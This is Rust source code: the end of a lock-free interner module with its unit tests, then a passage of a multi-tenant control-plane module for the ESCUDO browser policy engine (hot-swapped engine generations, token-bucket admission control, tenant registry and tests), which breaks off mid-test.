    /// Losing a claim is handled by *adoption*: the loser re-reads the slot the
    /// winner filled, and either takes the winner's id (same key) or carries its
    /// constructed key to the next slot. Ids therefore stay dense — an id is
    /// drawn only after a claim has irrevocably succeeded.
    pub fn intern(&self, hash: u64, matches: impl Fn(&K) -> bool, make: impl FnOnce() -> K) -> u32 {
        let mut make = Some(make);
        let mut spare: Option<K> = None;
        let mut segment = &self.buckets[((hash >> 32) as usize) & self.mask];
        loop {
            for slot in &segment.slots {
                loop {
                    if let Some(entry) = slot.get() {
                        if entry.hash == hash && matches(&entry.key) {
                            return Self::await_id(entry);
                        }
                        break; // occupied by a different key — probe onward
                    }
                    let key = spare
                        .take()
                        .unwrap_or_else(|| (make.take().expect("key built at most once"))());
                    let candidate = Entry {
                        hash,
                        key,
                        id: AtomicU32::new(ID_PENDING),
                    };
                    match slot.set(candidate) {
                        Ok(()) => {
                            // The claim is ours: draw the dense id and publish it.
                            let entry = slot.get().expect("entry was just set");
                            let id = self.count.fetch_add(1, Ordering::Relaxed);
                            assert!(id < ID_PENDING, "interner id space exhausted");
                            entry.id.store(id, Ordering::Release);
                            return id;
                        }
                        Err(lost) => {
                            // A racing thread won this slot; keep our key for a
                            // later slot and re-examine the winner's entry.
                            self.cas_retries.fetch_add(1, Ordering::Relaxed);
                            spare = Some(lost.key);
                        }
                    }
                }
            }
            segment = segment.next.get_or_init(|| Box::new(Segment::new()));
        }
    }

    /// Number of keys interned so far (= the next dense id).
    #[must_use]
    pub fn len(&self) -> usize {
        self.count.load(Ordering::Acquire) as usize
    }

    /// `true` when nothing has been interned.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Slot claims that lost their CAS to a racing thread — the direct measure
    /// of first-touch contention (zero in single-threaded use).
    #[must_use]
    pub fn cas_retries(&self) -> u64 {
        self.cas_retries.load(Ordering::Relaxed)
    }

    /// The deepest bucket chain, in *entries* (not segments): the walk length of
    /// the unluckiest probe. Computed by walking the table, so it is a
    /// stats-path operation, not a hot-path one.
    #[must_use]
    pub fn max_bucket_depth(&self) -> usize {
        let mut max = 0;
        for bucket in self.buckets.iter() {
            let mut depth = 0;
            let mut segment = Some(bucket);
            while let Some(seg) = segment {
                depth += seg.slots.iter().filter(|slot| slot.get().is_some()).count();
                segment = seg.next.get().map(Box::as_ref);
            }
            max = max.max(depth);
        }
        max
    }
}

impl<K> Default for AtomicInterner<K> {
    fn default() -> Self {
        AtomicInterner::new()
    }
}

impl<K> std::fmt::Debug for AtomicInterner<K> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("AtomicInterner")
            .field("buckets", &(self.mask + 1))
            .field("len", &self.len())
            .field("cas_retries", &self.cas_retries())
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Barrier;

    fn fx(value: u64) -> u64 {
        // A cheap spread so test keys land in different buckets.
        value.wrapping_mul(0x9e37_79b9_7f4a_7c15).rotate_left(17)
    }

    #[test]
    fn interning_is_idempotent_and_dense() {
        let interner: AtomicInterner<u64> = AtomicInterner::with_buckets(8);
        for round in 0..3 {
            for value in 0u64..100 {
                let id = interner.intern(fx(value), |k| *k == value, || value);
                assert_eq!(id, value as u32, "round {round}");
                assert_eq!(interner.lookup(fx(value), |k| *k == value), Some(id));
            }
        }
        assert_eq!(interner.len(), 100);
        assert_eq!(interner.cas_retries(), 0, "single-threaded: no lost claims");
    }

    #[test]
    fn lookup_misses_without_constructing_anything() {
        let interner: AtomicInterner<u64> = AtomicInterner::new();
        assert_eq!(interner.lookup(fx(7), |k| *k == 7), None);
        interner.intern(fx(7), |k| *k == 7, || 7);
        assert_eq!(interner.lookup(fx(7), |k| *k == 7), Some(0));
        assert_eq!(interner.lookup(fx(8), |k| *k == 8), None);
    }

    #[test]
    fn make_runs_at_most_once_and_only_on_a_claim() {
        let interner: AtomicInterner<u64> = AtomicInterner::new();
        interner.intern(fx(1), |k| *k == 1, || 1);
        let mut built = 0;
        interner.intern(
            fx(1),
            |k| *k == 1,
            || {
                built += 1;
                1
            },
        );
        assert_eq!(built, 0, "warm intern must not construct a key");
    }

    #[test]
    fn chains_grow_past_one_segment_and_depth_is_reported() {
        // One bucket: every key chains behind it.
        let interner: AtomicInterner<u64> = AtomicInterner::with_buckets(1);
        let n = (SEGMENT_SLOTS * 3) as u64;
        for value in 0..n {
            interner.intern(fx(value), |k| *k == value, || value);
        }
        assert_eq!(interner.len(), n as usize);
        assert_eq!(interner.max_bucket_depth(), n as usize);
        // Everything is still found after the chain growth.
        for value in 0..n {
            assert_eq!(
                interner.lookup(fx(value), |k| *k == value),
                Some(value as u32)
            );
        }
    }

    #[test]
    fn hash_collisions_are_resolved_by_field_match() {
        let interner: AtomicInterner<u64> = AtomicInterner::new();
        // Same hash, different keys: both intern, to different ids.
        let a = interner.intern(42, |k| *k == 1, || 1);
        let b = interner.intern(42, |k| *k == 2, || 2);
        assert_ne!(a, b);
        assert_eq!(interner.lookup(42, |k| *k == 1), Some(a));
        assert_eq!(interner.lookup(42, |k| *k == 2), Some(b));
    }

    #[test]
    fn racing_first_touches_converge_on_one_dense_id_per_key() {
        const THREADS: usize = 8;
        const KEYS: u64 = 64;
        // One bucket maximizes collisions: every claim races every other.
        let interner: AtomicInterner<u64> = AtomicInterner::with_buckets(1);
        let barrier = Barrier::new(THREADS);
        let ids = std::thread::scope(|scope| {
            let handles: Vec<_> = (0..THREADS)
                .map(|t| {
                    let interner = &interner;
                    let barrier = &barrier;
                    scope.spawn(move || {
                        barrier.wait();
                        (0..KEYS)
                            .map(|i| {
                                // Offset walks so threads race on different keys at
                                // different moments while the sets fully overlap.
                                let value = (i + t as u64 * 11) % KEYS;
                                (value, interner.intern(fx(value), |k| *k == value, || value))
                            })
                            .collect::<Vec<_>>()
                    })
                })
                .collect();
            handles
                .into_iter()
                .flat_map(|h| h.join().expect("storm thread"))
                .collect::<Vec<_>>()
        });

        // Every thread saw the same id per key, ids are dense, lookups all hit.
        assert_eq!(interner.len(), KEYS as usize);
        let mut by_key = vec![None; KEYS as usize];
        for (value, id) in ids {
            assert!((id as usize) < KEYS as usize, "id {id} out of dense range");
            match by_key[value as usize] {
                None => by_key[value as usize] = Some(id),
                Some(expected) => assert_eq!(id, expected, "key {value} got two ids"),
            }
        }
        let mut seen: Vec<u32> = by_key.into_iter().map(Option::unwrap).collect();
        seen.sort_unstable();
        assert_eq!(seen, (0..KEYS as u32).collect::<Vec<_>>());
    }
}
