//! The multi-tenant policy control plane: generation-swapped engine handles,
//! token-bucket admission control and the tenant registry.
//!
//! ESCUDO's protection model assumes one reference monitor per browser; a
//! served deployment runs many origin-groups (*tenants*) in one process. This
//! module is the routing layer above the sharded [`EscudoEngine`]:
//!
//! * [`EngineHandle`] — an epoch/generation-swapped `Arc` pointer to a
//!   [`PolicyEngine`]. A hot policy reload ([`EngineHandle::swap`]) publishes a
//!   new [`EngineGeneration`] without stalling in-flight `decide_many`
//!   batches: readers pin a generation with one `Arc` clone and keep deciding
//!   against it; the retired generation is freed when its last reader drops.
//!   This is a std-only `ArcSwap` equivalent — a `Mutex`-guarded writer plus a
//!   generation-checked `Arc` clone on the read side ([`EngineReader`]), so
//!   the steady-state read path is a single atomic load.
//! * [`AdmissionControl`] — a token bucket rate-limiting mediation throughput
//!   per tenant, with configurable burst/refill and a saturating `rejected`
//!   counter. Enforced at the `Erm` facade so browser- and script-initiated
//!   paths are both covered.
//! * [`TenantRegistry`] — tenant id → [`Tenant`], each tenant owning an
//!   independent engine (own cache/interner bounds, own
//!   [`ShardStats`](crate::ShardStats)) and its own admission bucket, so a
//!   noisy tenant can neither evict another's warm decisions nor starve its
//!   mediation.

use std::fmt;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex, RwLock, Weak};
use std::time::{Duration, Instant};

use crate::engine::{EngineStats, EscudoEngine, PolicyEngine, SameOriginEngine};
use crate::policy::PolicyMode;

// ---------------------------------------------------------------------------
// Engine generations.

/// One published policy-engine generation. Readers pin a generation by cloning
/// its `Arc`; the generation stays alive exactly as long as someone still
/// decides against it.
#[derive(Debug)]
pub struct EngineGeneration {
    engine: Arc<dyn PolicyEngine>,
    generation: u64,
}

impl EngineGeneration {
    /// The engine of this generation.
    #[must_use]
    pub fn engine(&self) -> &Arc<dyn PolicyEngine> {
        &self.engine
    }

    /// The generation number (1 for the engine a handle was created with,
    /// incremented by every [`EngineHandle::swap`]).
    #[must_use]
    pub fn generation(&self) -> u64 {
        self.generation
    }
}

/// A generation-swapped engine pointer: the writer publishes a new engine
/// under a mutex, readers validate a cached `Arc` clone against an atomic
/// generation counter ([`EngineReader`]). Cloning the handle shares the same
/// underlying slot.
#[derive(Debug, Clone)]
pub struct EngineHandle {
    shared: Arc<HandleShared>,
}

#[derive(Debug)]
struct HandleShared {
    /// Published generation number; read-side fast path. Written under the
    /// `current` mutex, so it never runs ahead of the published `Arc`.
    generation: AtomicU64,
    current: Mutex<Arc<EngineGeneration>>,
}

impl EngineHandle {
    /// Creates a handle publishing `engine` as generation 1.
    #[must_use]
    pub fn new(engine: Arc<dyn PolicyEngine>) -> Self {
        EngineHandle {
            shared: Arc::new(HandleShared {
                generation: AtomicU64::new(1),
                current: Mutex::new(Arc::new(EngineGeneration {
                    engine,
                    generation: 1,
                })),
            }),
        }
    }

    /// The currently published generation number (one atomic load).
    #[must_use]
    pub fn generation(&self) -> u64 {
        self.shared.generation.load(Ordering::Acquire)
    }

    /// Clones the currently published generation (brief mutex hold; use an
    /// [`EngineReader`] on hot paths so this only happens after a swap).
    #[must_use]
    pub fn current(&self) -> Arc<EngineGeneration> {
        Arc::clone(&self.shared.current.lock().expect("engine slot poisoned"))
    }

    /// Hot policy reload: publishes `engine` as a new generation and returns
    /// the retired one. In-flight batches pinned to the retired generation
    /// finish against it undisturbed; it is freed when its last reader drops.
    pub fn swap(&self, engine: Arc<dyn PolicyEngine>) -> Arc<EngineGeneration> {
        let mut slot = self.shared.current.lock().expect("engine slot poisoned");
        let next = slot.generation + 1;
        let retired = std::mem::replace(
            &mut *slot,
            Arc::new(EngineGeneration {
                engine,
                generation: next,
            }),
        );
        // Publish the number only after the Arc is in place, still under the
        // lock: a reader that observes `next` will find generation `>= next`
        // in the slot.
        self.shared.generation.store(next, Ordering::Release);
        retired
    }

    /// A `Weak` witness on the currently published generation — lets tests
    /// verify that a generation retired by [`EngineHandle::swap`] is actually
    /// dropped once its last reader finishes (no leak).
    #[must_use]
    pub fn witness(&self) -> Weak<EngineGeneration> {
        Arc::downgrade(&self.current())
    }
}

/// The read side of an [`EngineHandle`]: caches an `Arc` clone of one
/// generation and revalidates it with a single atomic load. The mutex is only
/// touched when a swap actually happened, so steady-state mediation never
/// contends with other readers or the writer.
#[derive(Debug, Clone)]
pub struct EngineReader {
    handle: EngineHandle,
    cached: Arc<EngineGeneration>,
}

impl EngineReader {
    /// Creates a reader pinned to the handle's current generation.
    #[must_use]
    pub fn new(handle: EngineHandle) -> Self {
        let cached = handle.current();
        EngineReader { handle, cached }
    }

    /// Revalidates the cached generation, re-pinning to the newest published
    /// one if a swap happened. Returns the (now current) pinned generation.
    pub fn refresh(&mut self) -> &Arc<EngineGeneration> {
        if self.handle.generation() != self.cached.generation {
            self.cached = self.handle.current();
        }
        &self.cached
    }

    /// The pinned generation, without revalidating. Batches use this so every
    /// decision of one mediation plan comes from one generation.
    #[must_use]
    pub fn pinned(&self) -> &Arc<EngineGeneration> {
        &self.cached
    }

    /// The handle this reader validates against.
    #[must_use]
    pub fn handle(&self) -> &EngineHandle {
        &self.handle
    }
}

// ---------------------------------------------------------------------------
// Clocks.

/// The time source an [`AdmissionControl`] bucket refills against.
///
/// `std::time::Instant` cannot be constructed at arbitrary points, so the
/// bucket meters against a monotonic nanosecond counter instead: the wall
/// clock in production ([`MonotonicClock`]), a hand-advanced counter in tests
/// and benches ([`ManualClock`]) so refill behaviour is deterministic and
/// exactly gateable rather than pinned to `refill_per_sec = 0`.
pub trait Clock: fmt::Debug + Send + Sync {
    /// Nanoseconds elapsed since the clock's own epoch. Must be monotonic.
    fn now_ns(&self) -> u64;
}

/// The production clock: nanoseconds since the clock was created.
#[derive(Debug)]
pub struct MonotonicClock {
    anchor: Instant,
}

impl MonotonicClock {
    /// A clock anchored at the moment of creation.
    #[must_use]
    pub fn new() -> Self {
        MonotonicClock {
            anchor: Instant::now(),
        }
    }
}

impl Default for MonotonicClock {
    fn default() -> Self {
        MonotonicClock::new()
    }
}

impl Clock for MonotonicClock {
    fn now_ns(&self) -> u64 {
        u64::try_from(self.anchor.elapsed().as_nanos()).unwrap_or(u64::MAX)
    }
}

/// A hand-advanced clock: time moves only when the test says so.
#[derive(Debug, Default)]
pub struct ManualClock {
    ns: AtomicU64,
}

impl ManualClock {
    /// A manual clock starting at 0 ns.
    #[must_use]
    pub fn new() -> Self {
        ManualClock::default()
    }

    /// Advances the clock by `delta`.
    pub fn advance(&self, delta: Duration) {
        self.advance_ns(u64::try_from(delta.as_nanos()).unwrap_or(u64::MAX));
    }

    /// Advances the clock by `delta_ns` nanoseconds.
    pub fn advance_ns(&self, delta_ns: u64) {
        let _ = self
            .ns
            .fetch_update(Ordering::Release, Ordering::Relaxed, |v| {
                Some(v.saturating_add(delta_ns))
            });
    }
}

impl Clock for ManualClock {
    fn now_ns(&self) -> u64 {
        self.ns.load(Ordering::Acquire)
    }
}

// ---------------------------------------------------------------------------
// Admission control.

/// Counters of one tenant's admission bucket.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct AdmissionStats {
    /// Mediation checks admitted.
    pub admitted: u64,
    /// Mediation checks rejected (saturating — the counter never wraps).
    pub rejected: u64,
    /// Bucket capacity (0 = unlimited).
    pub burst: u64,
    /// Refill rate in tokens per second.
    pub refill_per_sec: u64,
}

/// A token-bucket rate limiter on mediation throughput. One token admits one
/// policy check; a batch is admitted all-or-nothing (a partial plan would not
/// be generation- or audit-coherent). A `burst` of 0 disables limiting.
#[derive(Debug)]
pub struct AdmissionControl {
    burst: u64,
    refill_per_sec: u64,
    clock: Arc<dyn Clock>,
    state: Mutex<BucketState>,
    admitted: AtomicU64,
    rejected: AtomicU64,
}

#[derive(Debug)]
struct BucketState {
    tokens: f64,
    last_refill_ns: u64,
}

impl AdmissionControl {
    /// An unlimited bucket: every check admits, nothing is counted rejected.
    #[must_use]
    pub fn unlimited() -> Self {
        AdmissionControl::new(0, 0)
    }

    /// A bucket holding at most `burst` tokens, refilled continuously at
    /// `refill_per_sec` tokens per second (starts full). `burst == 0` means
    /// unlimited; `refill_per_sec == 0` with a burst means the bucket never
    /// refills (useful for deterministic tests and hard caps). Meters against
    /// the wall clock; use [`AdmissionControl::with_clock`] to inject a
    /// [`ManualClock`] instead.
    #[must_use]
    pub fn new(burst: u64, refill_per_sec: u64) -> Self {
        AdmissionControl::with_clock(burst, refill_per_sec, Arc::new(MonotonicClock::new()))
    }

    /// A bucket metering refill against an injected [`Clock`].
    #[must_use]
    pub fn with_clock(burst: u64, refill_per_sec: u64, clock: Arc<dyn Clock>) -> Self {
        let now_ns = clock.now_ns();
        AdmissionControl {
            burst,
            refill_per_sec,
            clock,
            state: Mutex::new(BucketState {
                tokens: burst as f64,
                last_refill_ns: now_ns,
            }),
            admitted: AtomicU64::new(0),
            rejected: AtomicU64::new(0),
        }
    }

    /// `true` when this bucket never rejects.
    #[must_use]
    pub fn is_unlimited(&self) -> bool {
        self.burst == 0
    }

    /// Requests admission for `n` checks, all-or-nothing. Admission consumes
    /// `n` tokens; rejection bumps the saturating `rejected` counter by `n`
    /// and consumes nothing.
    pub fn try_admit(&self, n: u64) -> bool {
        if n == 0 {
            return true;
        }
        if self.is_unlimited() {
            saturating_bump(&self.admitted, n);
            return true;
        }
        let admitted = {
            let mut state = self.state.lock().expect("admission bucket poisoned");
            let now_ns = self.clock.now_ns();
            let elapsed_secs = now_ns.saturating_sub(state.last_refill_ns) as f64 / 1e9;
            let refill = elapsed_secs * self.refill_per_sec as f64;
            state.tokens = (state.tokens + refill).min(self.burst as f64);
            state.last_refill_ns = now_ns;
            if state.tokens >= n as f64 {
                state.tokens -= n as f64;
                true
            } else {
                false
            }
        };
        if admitted {
            saturating_bump(&self.admitted, n);
        } else {
            saturating_bump(&self.rejected, n);
        }
        admitted
    }

    /// Counter snapshot.
    #[must_use]
    pub fn stats(&self) -> AdmissionStats {
        AdmissionStats {
            admitted: self.admitted.load(Ordering::Relaxed),
            rejected: self.rejected.load(Ordering::Relaxed),
            burst: self.burst,
            refill_per_sec: self.refill_per_sec,
        }
    }
}

fn saturating_bump(counter: &AtomicU64, n: u64) {
    let _ = counter.fetch_update(Ordering::Relaxed, Ordering::Relaxed, |v| {
        Some(v.saturating_add(n))
    });
}

// ---------------------------------------------------------------------------
// Tenants and the registry.

/// Per-tenant engine and admission configuration.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TenantConfig {
    /// The policy mode the tenant's engine enforces.
    pub mode: PolicyMode,
    /// Decision-cache bound of the tenant's engine (entries across shards).
    pub cache_capacity: usize,
    /// Cache shard count (0 = [`default_shard_count`](crate::default_shard_count)).
    pub shard_count: usize,
    /// Admission-bucket capacity (0 = unlimited).
    pub admission_burst: u64,
    /// Admission refill rate, tokens per second.
    pub admission_refill_per_sec: u64,
    /// Fetch fault budget: bounded retries per faulted fetch slot (0 with the
    /// other fetch fields zero = resilience disabled). The core crate cannot
    /// name the network layer's `FetchPolicy`, so tenants carry its raw
    /// numbers; sessions binding to the tenant assemble the policy from them.
    pub fetch_max_retries: u32,
    /// Fetch fault budget: base backoff per retry, nanoseconds (doubled each
    /// attempt).
    pub fetch_backoff_base_ns: u64,
    /// Fetch fault budget: per-batch retry deadline, nanoseconds (0 = none).
    pub fetch_deadline_ns: u64,
    /// Fetch fault budget: consecutive failures per origin before the circuit
    /// breaker opens (0 = no breaker).
    pub fetch_breaker_threshold: u32,
    /// Fetch fault budget: breaker cooldown before a half-open probe,
    /// nanoseconds.
    pub fetch_breaker_cooldown_ns: u64,
}

impl Default for TenantConfig {
    fn default() -> Self {
        TenantConfig {
            mode: PolicyMode::Escudo,
            cache_capacity: crate::engine::DEFAULT_CACHE_CAPACITY,
            shard_count: 0,
            admission_burst: 0,
            admission_refill_per_sec: 0,
            fetch_max_retries: 0,
            fetch_backoff_base_ns: 0,
            fetch_deadline_ns: 0,
            fetch_breaker_threshold: 0,
            fetch_breaker_cooldown_ns: 0,
        }
    }
}

impl TenantConfig {
    /// Sets the policy mode (builder style).
    #[must_use]
    pub fn with_mode(mut self, mode: PolicyMode) -> Self {
        self.mode = mode;
        self
    }

    /// Bounds the tenant's decision cache (builder style).
    #[must_use]
    pub fn with_cache_capacity(mut self, capacity: usize) -> Self {
        self.cache_capacity = capacity;
        self
    }

    /// Sets the cache shard count (builder style; 0 = auto).
    #[must_use]
    pub fn with_shards(mut self, shard_count: usize) -> Self {
        self.shard_count = shard_count;
        self
    }

    /// Sets the admission token bucket (builder style).
    #[must_use]
    pub fn with_admission(mut self, burst: u64, refill_per_sec: u64) -> Self {
        self.admission_burst = burst;
        self.admission_refill_per_sec = refill_per_sec;
        self
    }

    /// Sets the tenant's fetch retry budget (builder style): `max_retries`
    /// bounded retries per faulted slot, exponential backoff starting at
    /// `backoff_base_ns`, the whole batch capped by `deadline_ns` (0 = no
    /// deadline).
    #[must_use]
    pub fn with_fetch_retries(
        mut self,
        max_retries: u32,
        backoff_base_ns: u64,
        deadline_ns: u64,
    ) -> Self {
        self.fetch_max_retries = max_retries;
        self.fetch_backoff_base_ns = backoff_base_ns;
        self.fetch_deadline_ns = deadline_ns;
        self
    }

    /// Sets the tenant's per-origin circuit breaker (builder style): the
    /// breaker opens after `threshold` consecutive failures and probes again
    /// after `cooldown_ns`.
    #[must_use]
    pub fn with_fetch_breaker(mut self, threshold: u32, cooldown_ns: u64) -> Self {
        self.fetch_breaker_threshold = threshold;
        self.fetch_breaker_cooldown_ns = cooldown_ns;
        self
    }

    /// `true` when any fetch fault-budget field is set — sessions binding to
    /// this tenant then assemble a live fetch policy from the raw numbers.
    #[must_use]
    pub fn has_fetch_budget(&self) -> bool {
        self.fetch_max_retries > 0
            || self.fetch_backoff_base_ns > 0
            || self.fetch_deadline_ns > 0
            || self.fetch_breaker_threshold > 0
            || self.fetch_breaker_cooldown_ns > 0
    }

    /// Builds a fresh engine for this configuration — an independently bounded
    /// [`EscudoEngine`] or the [`SameOriginEngine`] baseline.
    #[must_use]
    pub fn build_engine(&self) -> Arc<dyn PolicyEngine> {
        match self.mode {
            PolicyMode::Escudo => {
                if self.shard_count == 0 {
                    Arc::new(EscudoEngine::with_cache_capacity(self.cache_capacity))
                } else {
                    Arc::new(EscudoEngine::with_shards(
                        self.shard_count,
                        self.cache_capacity,
                    ))
                }
            }
            PolicyMode::SameOriginOnly => Arc::new(SameOriginEngine::new()),
        }
    }
}

/// One tenant of the control plane: a generation-swapped engine plus an
/// admission bucket. Cheap to share (`Arc<Tenant>`); every browser session
/// bound to the tenant reads the same handle and bucket.
#[derive(Debug)]
pub struct Tenant {
    id: String,
    config: TenantConfig,
    handle: EngineHandle,
    admission: AdmissionControl,
}

impl Tenant {
    /// Creates a free-standing tenant (registry-less tests and benches).
    #[must_use]
    pub fn new(id: &str, config: TenantConfig) -> Self {
        Tenant::with_clock(id, config, Arc::new(MonotonicClock::new()))
    }

    /// Creates a tenant whose admission bucket refills against the given
    /// [`Clock`] — a [`ManualClock`] makes throttling fully deterministic.
    #[must_use]
    pub fn with_clock(id: &str, config: TenantConfig, clock: Arc<dyn Clock>) -> Self {
        Tenant {
            id: id.to_string(),
            config,
            handle: EngineHandle::new(config.build_engine()),
            admission: AdmissionControl::with_clock(
                config.admission_burst,
                config.admission_refill_per_sec,
                clock,
            ),
        }
    }

    /// The tenant id.
    #[must_use]
    pub fn id(&self) -> &str {
        &self.id
    }

    /// The configuration the tenant was registered with.
    #[must_use]
    pub fn config(&self) -> &TenantConfig {
        &self.config
    }

    /// The generation-swapped engine handle.
    #[must_use]
    pub fn handle(&self) -> &EngineHandle {
        &self.handle
    }

    /// The admission bucket.
    #[must_use]
    pub fn admission(&self) -> &AdmissionControl {
        &self.admission
    }

    /// The currently published generation number.
    #[must_use]
    pub fn generation(&self) -> u64 {
        self.handle.generation()
    }

    /// Statistics of the currently published engine generation.
    #[must_use]
    pub fn engine_stats(&self) -> EngineStats {
        self.handle.current().engine().stats()
    }

    /// Hot policy reload with a fresh engine built from this tenant's own
    /// configuration (new cache, new interner — a true policy epoch). Returns
    /// the retired generation.
    pub fn reload(&self) -> Arc<EngineGeneration> {
        self.handle.swap(self.config.build_engine())
    }

    /// Hot policy reload publishing the given engine as the next generation.
    pub fn reload_with(&self, engine: Arc<dyn PolicyEngine>) -> Arc<EngineGeneration> {
        self.handle.swap(engine)
    }
}

/// The tenant routing layer: tenant id → [`Tenant`]. Registration is
/// get-or-create; lookups clone the `Arc`, so the read lock is held only for
/// the probe.
#[derive(Debug, Default)]
pub struct TenantRegistry {
    tenants: RwLock<Vec<Arc<Tenant>>>,
}

impl TenantRegistry {
    /// An empty registry.
    #[must_use]
    pub fn new() -> Self {
        TenantRegistry::default()
    }

    /// Returns the tenant registered under `id`, creating it with `config` if
    /// absent. An existing tenant is returned unchanged — re-registration
    /// never resets a live engine or its counters (use [`Tenant::reload`]).
    pub fn register(&self, id: &str, config: TenantConfig) -> Arc<Tenant> {
        if let Some(existing) = self.get(id) {
            return existing;
        }
        let mut tenants = self.tenants.write().expect("tenant registry poisoned");
        // Re-probe under the write lock: another thread may have registered
        // the id between our read probe and here.
        if let Some(existing) = tenants.iter().find(|t| t.id == id) {
            return Arc::clone(existing);
        }
        let tenant = Arc::new(Tenant::new(id, config));
        tenants.push(Arc::clone(&tenant));
        tenant
    }

    /// Looks up a tenant by id.
    #[must_use]
    pub fn get(&self, id: &str) -> Option<Arc<Tenant>> {
        self.tenants
            .read()
            .expect("tenant registry poisoned")
            .iter()
            .find(|t| t.id == id)
            .map(Arc::clone)
    }

    /// Snapshot of every registered tenant, in registration order.
    #[must_use]
    pub fn tenants(&self) -> Vec<Arc<Tenant>> {
        self.tenants
            .read()
            .expect("tenant registry poisoned")
            .iter()
            .map(Arc::clone)
            .collect()
    }

    /// Number of registered tenants.
    #[must_use]
    pub fn len(&self) -> usize {
        self.tenants.read().expect("tenant registry poisoned").len()
    }

    /// `true` when no tenant is registered.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Hot-reloads the tenant registered under `id` (fresh engine from its own
    /// config). Returns the retired generation, or `None` for an unknown id.
    pub fn reload(&self, id: &str) -> Option<Arc<EngineGeneration>> {
        self.get(id).map(|tenant| tenant.reload())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::context::{ObjectContext, ObjectKind, PrincipalContext, PrincipalKind};
    use crate::{Operation, Origin, Ring};

    fn check_pair() -> (PrincipalContext, ObjectContext) {
        let origin = Origin::new("http", "app.example", 80);
        (
            PrincipalContext::new(PrincipalKind::Script, origin.clone(), Ring::new(3)),
            ObjectContext::new(ObjectKind::Cookie, origin, Ring::new(1)),
        )
    }

    #[test]
    fn swap_publishes_a_new_generation_without_disturbing_pinned_readers() {
        let tenant = Tenant::new("acme", TenantConfig::default());
        let mut reader = EngineReader::new(tenant.handle().clone());
        assert_eq!(reader.pinned().generation(), 1);
        assert_eq!(reader.pinned().engine().mode(), PolicyMode::Escudo);

        let retired = tenant.reload_with(
            TenantConfig::default()
                .with_mode(PolicyMode::SameOriginOnly)
                .build_engine(),
        );
        assert_eq!(retired.generation(), 1);
        assert_eq!(tenant.generation(), 2);

        // The reader stays pinned to generation 1 until it refreshes — an
        // in-flight batch is never torn across the swap.
        let (principal, object) = check_pair();
        assert!(reader
            .pinned()
            .engine()
            .decide(&principal, &object, Operation::Read)
            .is_denied());
        assert_eq!(reader.refresh().generation(), 2);
        assert!(reader
            .pinned()
            .engine()
            .decide(&principal, &object, Operation::Read)
            .is_allowed());
    }

    #[test]
    fn retired_generations_are_dropped_when_the_last_reader_lets_go() {
        let handle = EngineHandle::new(TenantConfig::default().build_engine());
        let witness = handle.witness();
        let pinned = handle.current();
        let retired = handle.swap(TenantConfig::default().build_engine());
        assert_eq!(retired.generation(), 1);
        drop(retired);
        // Still alive: `pinned` reads against it.
        assert!(witness.upgrade().is_some());
        drop(pinned);
        assert!(
            witness.upgrade().is_none(),
            "retired generation must be freed once its last reader drops"
        );
    }

    #[test]
    fn token_bucket_admits_the_burst_and_counts_the_rest_rejected() {
        // refill 0: deterministic — exactly `burst` tokens, ever.
        let bucket = AdmissionControl::new(4, 0);
        assert!(bucket.try_admit(3));
        assert!(!bucket.try_admit(2), "only 1 token left");
        assert!(bucket.try_admit(1));
        assert!(!bucket.try_admit(1));
        let stats = bucket.stats();
        assert_eq!(stats.admitted, 4);
        assert_eq!(stats.rejected, 3);
        assert_eq!(stats.burst, 4);

        // Batches are all-or-nothing: an over-burst batch rejects whole.
        let batch = AdmissionControl::new(8, 0);
        assert!(!batch.try_admit(9));
        assert!(batch.try_admit(8));
        assert_eq!(batch.stats().rejected, 9);

        let open = AdmissionControl::unlimited();
        assert!(open.is_unlimited());
        assert!(open.try_admit(1_000_000));
        assert_eq!(open.stats().rejected, 0);
        assert!(open.try_admit(0));
    }

    #[test]
    fn token_bucket_refills_against_the_injected_clock() {
        // 10 tokens/sec against a manual clock: refill is exact, not racy.
        let clock = Arc::new(ManualClock::new());
        let bucket = AdmissionControl::with_clock(2, 10, Arc::clone(&clock) as Arc<dyn Clock>);
        assert!(bucket.try_admit(2), "starts full");
        assert!(!bucket.try_admit(1), "drained; clock has not moved");

        // 100 ms at 10 tokens/sec refills exactly one token.
        clock.advance(Duration::from_millis(100));
        assert!(bucket.try_admit(1));
        assert!(!bucket.try_admit(1), "the single refilled token is spent");

        // A long sleep clamps at the burst: 10 s would mint 100 tokens but
        // the bucket holds 2.
        clock.advance(Duration::from_secs(10));
        assert!(bucket.try_admit(2));
        assert!(!bucket.try_admit(1));

        let stats = bucket.stats();
        assert_eq!(stats.admitted, 5);
        assert_eq!(stats.rejected, 3);
    }

    #[test]
    fn manual_clock_advances_only_by_hand() {
        let clock = ManualClock::new();
        assert_eq!(clock.now_ns(), 0);
        clock.advance_ns(7);
        clock.advance(Duration::from_micros(1));
        assert_eq!(clock.now_ns(), 1_007);
        // Saturates instead of wrapping.
        clock.advance_ns(u64::MAX);
        assert_eq!(clock.now_ns(), u64::MAX);
    }

    #[test]
    fn monotonic_clock_moves_forward() {
        let clock = MonotonicClock::new();
        let first = clock.now_ns();
        std::thread::yield_now();
        assert!(clock.now_ns() >= first);
    }

    #[test]
    fn tenant_with_clock_throttles_deterministically() {
        let clock = Arc::new(ManualClock::new());
        let tenant = Tenant::with_clock(
            "metered",
            TenantConfig::default().with_admission(4, 1),
            Arc::clone(&clock) as Arc<dyn Clock>,
        );
        assert!(tenant.admission().try_admit(4));
        assert!(!tenant.admission().try_admit(1));
        clock.advance(Duration::from_secs(2));
        assert!(tenant.admission().try_admit(2));
        assert_eq!(tenant.admission().stats().admitted, 6);
        assert_eq!(tenant.admission().stats().rejected, 1);
    }

    #[test]
    fn registry_routes_by_id_with_independent_engines() {
        let registry = TenantRegistry::new();
        assert!(registry.is_empty());
        let a = registry.register("a", TenantConfig::default().with_cache_capacity(256));
        let b = registry.register(
            "b",
            TenantConfig::default()
                .with_cache_capacity(64)
                .with_shards(4)
                .with_admission(10, 100),
        );
        assert_eq!(registry.len(), 2);
        assert_eq!(registry.get("a").unwrap().id(), "a");
        assert!(registry.get("ghost").is_none());

